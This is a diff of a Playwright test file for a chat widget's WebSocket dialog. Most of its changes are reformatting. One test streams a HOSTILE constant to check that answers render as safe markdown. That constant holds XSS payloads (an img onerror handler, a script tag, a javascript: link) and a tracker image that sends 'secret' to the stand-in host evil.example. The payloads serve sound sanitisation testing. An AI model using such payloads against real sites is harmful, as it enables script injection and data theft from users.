@@ -19,6 +19,7 @@ pytestmark = pytest.mark.browser
 
 def add_site(dialog_dir, site: Site) -> None:  # type: ignore[no-untyped-def]
     """Through the real store, on its own thread (Playwright's sync API holds this thread's event loop)."""
+
     async def put() -> None:
         store = await Store.open(dialog_dir / "chat.db")
         await store.put_site(site)
@@ -71,7 +72,7 @@ def test_demo_page_send_stream_reload_stop(default_server, browser, tmp_path) ->
 
 HOSTILE = (
     "Here is **bold**, `code` and a [safe link](https://docs.example.com/help).\n\n"
-    "<img src=x onerror=\"window.pwned=1\"> <script>window.pwned=2</script>\n\n"
+    '<img src=x onerror="window.pwned=1"> <script>window.pwned=2</script>\n\n'
     "![tracker](https://evil.example/p.png?d=secret) and [bad](javascript:window.pwned=3)\n\n"
     "- one\n- two\n\n```python\nprint('<b>hi</b>')\n```"
 )
@@ -81,16 +82,20 @@ def test_answers_render_as_safe_markdown(tiny_server, browser) -> None:
     with tiny_server() as s:
         page = browser.new_page()
         try:
+
             def server(ws):  # type: ignore[no-untyped-def]
                 def on_message(message):  # type: ignore[no-untyped-def]
                     frame = json.loads(message)
                     if frame["type"] == "hello":
-                        ws.send(json.dumps({"type": "welcome", "conversation_id": "c", "token": "t", "history": [], "seq": 0, "reset": True}))
+                        ws.send(
+                            json.dumps({"type": "welcome", "conversation_id": "c", "token": "t", "history": [], "seq": 0, "reset": True})
+                        )
                     elif frame["type"] == "message":
                         ws.send(json.dumps({"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}))
                         for i, piece in enumerate([HOSTILE[:40], HOSTILE[40:]]):
                             ws.send(json.dumps({"type": "delta", "message_id": "a1", "seq": 2 + i, "text": piece}))
                         ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": 4, "finish_reason": "stop"}))
+
                 ws.on_message(on_message)
 
             page.route_web_socket("**/v1/dialog*", server)
@@ -143,6 +148,7 @@ def scripted_socket(page: Page, on_hello, on_message):  # type: ignore[no-untype
                 on_hello(ws, frame, n)
             elif frame["type"] == "message":
                 on_message(ws, frame, n)
+
         ws.on_message(on_frame)
 
     page.route_web_socket("**/v1/dialog*", server)
@@ -164,6 +170,7 @@ def test_a_message_the_engine_was_too_busy_for_is_sent_again_after_retry_after(t
     with tiny_server() as s:
         page = browser.new_page()
         try:
+
             def on_message(ws, frame, n):  # type: ignore[no-untyped-def]
                 first = len([f for _, f in sent if f["type"] == "message"]) == 1
                 ack = {"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}
@@ -196,6 +203,7 @@ def test_the_widget_retries_an_overloaded_message_a_bounded_number_of_times(tiny
     with tiny_server() as s:
         page = browser.new_page()
         try:
+
             def on_message(ws, frame, n):  # type: ignore[no-untyped-def]
                 count = len([f for _, f in sent if f["type"] == "message"])
                 if count == 1:
@@ -226,6 +234,7 @@ def test_a_resumed_ack_carrying_the_servers_reference_settles_the_pending_messag
     with tiny_server() as s:
         page = browser.new_page()
         try:
+
             def on_hello(ws, frame, n):  # type: ignore[no-untyped-def]
                 if n == 1:
                     welcome(ws)
